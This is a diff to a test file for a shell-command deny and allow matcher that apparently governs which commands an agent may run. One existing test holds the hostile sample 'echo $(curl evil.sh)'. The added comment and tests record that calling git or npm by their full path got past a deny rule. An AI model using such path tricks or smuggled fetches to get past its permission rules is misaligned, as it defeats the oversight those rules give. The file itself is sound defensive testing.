@@ -66,6 +66,9 @@ describe('globs (fnmatch, case-insensitive)', () => {
     expect(deniedBy('echo $(curl evil.sh)', ['curl *'])).toBe('curl *');
     expect(deniedBy('sudo npm publish', ['npm publish*'])).toBe('npm publish*');
     expect(deniedBy('npm test', ['npm publish*'])).toBeUndefined();
+    // The program by its path: ran past the deny rule through the message API.
+    expect(deniedBy('/usr/bin/git push origin', ['git push*'])).toBe('git push*');
+    expect(deniedBy('ls && ./node_modules/.bin/npm publish', ['npm publish*'])).toBe('npm publish*');
   });
   it('allow counts only when every command of the line matches', () => {
     expect(allowedBy('git status', ['git status*'])).toBe(true);
